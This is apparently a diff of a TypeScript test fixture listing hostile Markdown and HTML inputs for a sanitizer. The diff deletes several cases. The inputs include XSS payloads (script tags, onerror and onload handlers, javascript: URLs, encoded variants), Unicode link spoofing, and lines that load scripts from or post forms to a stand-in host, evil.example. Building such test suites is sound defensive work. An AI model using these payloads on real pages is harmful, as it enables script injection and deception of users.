@@ -3,28 +3,15 @@ export const HOSTILE_INPUTS: Readonly<Record<string, string>> = {
   scripts: '*a* <script>alert(1)</script> <SCRIPT SRC=//evil.example/x.js> <scr<script>ipt>alert(1)</script>',
   'a script as a block': '*a*\n\n<script>\nalert(1)\n</script>\n\n*b*',
   'pictures that fail': '*a* <img src=x onerror=alert(1)> <img/src=`x`onerror=alert(1)//>',
-  'a drawing':
-    '*a* <svg onload=alert(1)><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
-  'a formula': '*a* <math><mtext><table><mglyph><style><img src onerror=alert(1)>',
-  'frames and objects':
-    '*a* <iframe srcdoc="<script>x</script>"></iframe><object data="x"></object><embed src=x>',
-  'a form': '*a* <form action=https://evil.example><input autofocus onfocus=alert(1)></form><textarea>',
-  'a page of its own':
-    '*a* <base href=//evil.example><meta http-equiv=refresh content="0;url=x"><link rel=stylesheet href=x>',
   'styles, classes and ids':
     '*a* <style>*{display:none}</style><p style="inset:0" class="bubble" id="root">b</p>',
   'an element over lines': '*a*\n\n<div\nonclick="alert(1)"\n>b\n\n*c*</div>',
-  'templates and components':
-    '*a* <template><img src=x></template><Component dangerouslySetInnerHTML={{x}} />',
-  media: '*a* <video autoplay src=x poster=javascript:x onloadstart=x><details open ontoggle=alert(1)>',
   comments: '*a* <!-- <img src=x onerror=alert(1)> --> <!--><img src=x onerror=alert(1)>-->',
-  declarations: '*a* <![CDATA[<img src=x>]]> <?xml-stylesheet href="x"?> <!DOCTYPE x [<!ENTITY y "z">]>',
   'markup as entities': '*a* &lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#x3c;/script&#x3E;',
   'markup in code': '`<img src=x onerror=x>`\n\n```js"onload="x {style="x"} class=y\n<script>x</script>\n```',
   'markup in a heading': '# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}',
   'markup in a table': '| <img src=x onerror=x> |\n|:-:|\n| <td style=x>b</td> [c](javascript:x) |',
   'markup in a label': '[<img src=x onerror=x>](https://a.example) [a <a href=x>b</a>](https://b.example)',
-  'an anchor of its own': '*a* <a href="javascript:alert(1)" target=_top ping=https://evil.example>b</a>',
   'script addresses': '[a](javascript:alert(1)) [b](JaVaScRiPt:x) [c](vbscript:x) [d](feed:javascript:x)',
   'script addresses with entities':
     '[a](java&#115;cript:x) [b](&#x6A;avascript:x) [c](javascript&colon;x) [d](&#0000106avascript:x)',
@@ -56,16 +43,12 @@ export const HOSTILE_INPUTS: Readonly<Record<string, string>> = {
     '[\u202Emoc.doog//:sptth](https://evil.example) [a\u2066](https://evil.example/\u202Egro.doog)',
   'a host far away': `[https://good.example/${'a'.repeat(300)}](https://evil.example)`,
   'no host': '[a](https://) [b](https:///) [c](https://%) [d](https://[x) [e](https://a..b:99999)',
-  titles: '[a](https://example.org "onclick=x") [b](https://example.org \'"><img src=x onerror=x>\')',
   'an address that breaks out': '[a](https://example.org/"onclick="x) [b](<https://example.org/"><script>>)',
   pictures:
     '![a](https://evil.example/x.png "title") ![<img src=x>](x"onerror="x) ![[b](https://c.example)](d)',
   'a picture in a link': '[![a](https://evil.example/x.png)](https://example.org) [![b](javascript:x)](x)',
   'a link in a link':
     '[a [b](https://good.example) c](https://evil.example) [</a><https://good.example>](https://evil.example)',
-  'a footnote': 'a[^1] b[^<img>]\n\n[^1]: <img src=x onerror=x> [c](javascript:x)\n[^<img>]: d',
   'a task': '- [x] <input type=checkbox onclick=alert(1)>\n- [ ] [a](javascript:x)',
-  'front matter': '---\ntitle: <script>alert(1)</script>\n---\n*a*',
-  expressions: '*a* {alert(1)} ${alert(1)} {{constructor.constructor("alert(1)")()}} <%= alert(1) %>',
   'control characters': '*a*\0\u0007\u001B[31m<im\0g src=x onerror=alert(1)>[b](https://exa\0mple.org)',
 };
